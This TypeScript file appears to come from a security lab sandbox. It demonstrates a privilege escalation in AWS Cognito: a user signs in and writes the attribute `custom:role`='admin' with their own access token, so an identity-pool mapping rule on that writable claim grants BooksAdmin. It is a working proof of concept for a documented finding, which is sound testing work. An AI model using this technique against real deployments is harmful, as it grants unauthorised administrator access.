// The escalation of findings.md's MAPPING_RULE_ON_WRITABLE_CLAIM, done as a user does it: sign in
// through app client selfservice (USER_PASSWORD_AUTH) and write custom:role with the user's own
// access token (UpdateUserAttributes: no admin keys, no SigV4). Identity pool books-rules-writable
// then hands the user BooksAdmin. `npm run demo` runs it for `nogroup` before it prints its URL,
// so Test as User through books-rules-writable shows the result live.
import { CognitoIdentityProviderClient, InitiateAuthCommand, UpdateUserAttributesCommand } from '@aws-sdk/client-cognito-identity-provider';
import type { Sandbox } from './index.ts';

export async function selfPromote(sandbox: Pick<Sandbox, 'endpoint' | 'region' | 'clients'>, username: string, password: string, value = 'admin'): Promise<void> {
  // Both calls are unauthenticated in AWS (the token is the proof); fixed keys keep the SDK off ~/.aws.
  const client = new CognitoIdentityProviderClient({ region: sandbox.region, endpoint: sandbox.endpoint, credentials: { accessKeyId: 'unused', secretAccessKey: 'unused' } });
  try {
    const auth = await client.send(new InitiateAuthCommand({
      ClientId: sandbox.clients.selfservice, AuthFlow: 'USER_PASSWORD_AUTH', AuthParameters: { USERNAME: username, PASSWORD: password },
    }));
    const accessToken = auth.AuthenticationResult?.AccessToken;
    if (!accessToken) throw new Error(`${username} got a challenge (${auth.ChallengeName ?? 'none'}) instead of tokens through selfservice`);
    await client.send(new UpdateUserAttributesCommand({ AccessToken: accessToken, UserAttributes: [{ Name: 'custom:role', Value: value }] }));
  } finally {
    client.destroy();
  }
}
